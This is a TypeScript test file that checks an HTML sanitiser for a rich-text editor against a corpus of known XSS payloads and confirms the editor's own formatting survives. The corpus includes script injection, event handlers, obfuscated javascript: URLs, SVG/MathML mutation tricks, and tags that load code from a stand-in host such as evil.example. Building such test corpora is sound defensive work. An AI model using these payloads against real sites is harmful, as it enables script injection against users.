// @vitest-environment jsdom
// The sanitiser against a corpus of known XSS payloads, checked the way a browser would read the
// result (jsdom's spec-compliant parser), and against the editor's own formats, which must survive.
import { describe, expect, it } from 'vitest';
import { isVideoEmbedUrl, sanitizeRichHtml } from './sanitize-html';

const ALLOWED_TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 p br strong b em i u s sub sup span ol ul li blockquote pre a img iframe'.split(' '),
);
const ALLOWED_ATTRIBUTES = new Set([
  'class',
  'style',
  'href',
  'target',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'frameborder',
  'allowfullscreen',
  'data-list',
]);

/** Every way the output could still run script or leave the page, as a browser parses it. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const document = new DOMParser().parseFromString(`<!doctype html><body>${html}</body>`, 'text/html');
  for (const el of document.body.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) found.push(`tag <${tag}>`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      // Browsers ignore control characters and spaces inside a URL scheme.
      const value = [...attr.value]
        .filter((c) => c.charCodeAt(0) > 0x20)
        .join('')
        .toLowerCase();
      if (!ALLOWED_ATTRIBUTES.has(name)) found.push(`attribute ${name} on <${tag}>`);
      if (name.startsWith('on')) found.push(`handler ${name}`);
      if (name === 'style' && /url\(|expression|@import|javascript|position|behavior/.test(value))
        found.push(`style ${value}`);
      if (name === 'href' && /^[a-z][a-z0-9+.-]*:/.test(value) && !/^(https?|mailto):/.test(value))
        found.push(`href ${value}`);
      if (name === 'href' && value.startsWith('//')) found.push(`protocol-relative href ${value}`);
      if (
        name === 'src' &&
        tag === 'img' &&
        !/^(https?:\/\/|\/[^/]|data:image\/(png|gif|jpeg|bmp|x-icon|vnd\.microsoft\.icon);base64,)/.test(
          value,
        )
      ) {
        found.push(`img src ${value.slice(0, 40)}`);
      }
      if (name === 'src' && tag === 'iframe' && !isVideoEmbedUrl(attr.value))
        found.push(`iframe src ${value}`);
    }
    if (tag === 'iframe' && el.childNodes.length > 0) found.push('content inside an iframe');
  }
  return found;
}

// At least 30 known payloads: script, handlers, URL schemes (plain and obfuscated), SVG/MathML,
// malformed markup, raw-text element tricks, frames, meta/base/form, CSS.
const XSS_CORPUS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<script type="module">import("https://evil.example/x.js")</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">',
  '<a href="//evil.example/phish">protocol relative</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<body onload=alert(1)>',
  '<div onclick="alert(1)">click</div>',
  '<p onmouseover="alert(1)">hover</p>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<style>@import "https://evil.example/x.css";</style><p>text</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/watch?v=x"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)" srcdoc="<script>alert(1)</script>">&lt;script&gt;alert(1)&lt;/script&gt;</iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=x><button formaction="javascript:alert(1)">go</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<span style="color: red; background: url(https://evil.example/x); position: fixed">x</span>',
  '<span style="color: expression(alert(1))">x</span>',
  '<li data-list="bullet" onclick="alert(1)">item</li>',
  '<p class="ql-align-center x-evil" id="admin-login">x</p>',
];

describe('sanitizeRichHtml against known XSS payloads', () => {
  it('has a corpus of at least 30 payloads', () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(XSS_CORPUS)('nothing dangerous survives %s', (payload) => {
    const out = sanitizeRichHtml(payload);
    expect(dangers(out)).toEqual([]);
    // Belt and braces on the raw string too: none of these may appear in markup.
    expect(out).not.toMatch(
      /<(script|svg|math|style|meta|base|form|object|embed|link|frame|xmp|noscript|template|input|button)\b/i,
    );
    expect(out).not.toMatch(/\son[a-z]+\s*=|srcdoc|javascript:|vbscript:|data:text/i);
    // Sanitising is idempotent: what is stored is what a second pass would store.
    expect(sanitizeRichHtml(out)).toBe(out);
  });

  it('keeps the harmless part of an attacked element', () => {
    expect(sanitizeRichHtml('<a href="https://ok.example" onclick="alert(1)">ok</a>')).toBe(
      '<a href="https://ok.example">ok</a>',
    );
    expect(
      sanitizeRichHtml(
        '<span style="color: red; background: url(https://evil.example/x); position: fixed">x</span>',
      ),
    ).toBe('<span style="color:red">x</span>');
    expect(sanitizeRichHtml('<p class="ql-align-center x-evil" id="admin-login">x</p>')).toBe(
      '<p class="ql-align-center">x</p>',
    );
    expect(sanitizeRichHtml('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    );
    expect(
      sanitizeRichHtml('<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)">text</iframe>'),
    ).toBe(
      '<iframe src="https://www.youtube.com/embed/abc" class="ql-video" frameborder="0" allowfullscreen="true"></iframe>',
    );
  });

  it('drops images and frames it cannot keep, whole', () => {
    expect(sanitizeRichHtml('<p>a<img src="javascript:alert(1)">b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichHtml('<p>a<img src="data:image/svg+xml;base64,PHN2Zz4=">b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichHtml('<iframe src="https://evil.example/embed/x"></iframe><p>after</p>')).toBe(
      '<p>after</p>',
    );
  });
});

describe("sanitizeRichHtml keeps the editor's formats", () => {
  const png =
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  const KEEP: string[] = [
    '<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6><p>Normal</p>',
    '<p><strong>bold</strong> <b>b</b> <em>italic</em> <i>i</i> <u>underline</u> <s>strike</s></p>',
    '<p>x<sub>2</sub> and x<sup>2</sup></p>',
    '<ol><li>first</li><li>second</li></ol><ul><li>bullet</li></ul>',
    '<ol><li data-list="bullet">quill bullet</li><li data-list="ordered">quill ordered</li></ol>',
    '<p class="ql-align-center">c</p><p class="ql-align-right">r</p><p class="ql-align-justify">j</p>',
    '<p class="ql-indent-1">1</p><p class="ql-indent-8">8</p>',
    '<p><span class="ql-font-serif">serif</span> <span class="ql-font-monospace">mono</span></p>',
    '<p><span class="ql-size-small">s</span><span class="ql-size-large">l</span><span class="ql-size-huge">h</span></p>',
    '<p><span style="color:rgb(230, 0, 0)">red</span> <span style="background-color:#ffff00">hi</span> <span style="color:#e60000;background-color:rgb(255, 255, 204)">both</span></p>',
    '<blockquote>quoted</blockquote>',
    '<pre>\nconst a = 1 &lt; 2;\n</pre>',
    '<pre class="ql-syntax">code</pre>',
    '<p><a href="https://example.com/page" target="_blank" rel="noopener noreferrer">external</a> <a href="/contact">inside</a> <a href="mailto:hello@example.com">mail</a></p>',
    `<p><img src="${png}" alt="dot" /></p>`,
    '<p><img src="https://example.com/photo.jpg" /> <img src="/uploads/products/a.webp" /></p>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0" class="ql-video" frameborder="0" allowfullscreen="true"></iframe>',
    '<iframe src="https://player.vimeo.com/video/76979871" class="ql-video" frameborder="0" allowfullscreen="true"></iframe>',
    '<p>line<br />break</p>',
  ];

  it.each(KEEP)('keeps %s', (html) => {
    expect(sanitizeRichHtml(html)).toBe(html);
  });

  it('adds the safe rel to links that open a new tab', () => {
    expect(sanitizeRichHtml('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeRichHtml('<a href="https://example.com" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://example.com">x</a>',
    );
  });
});
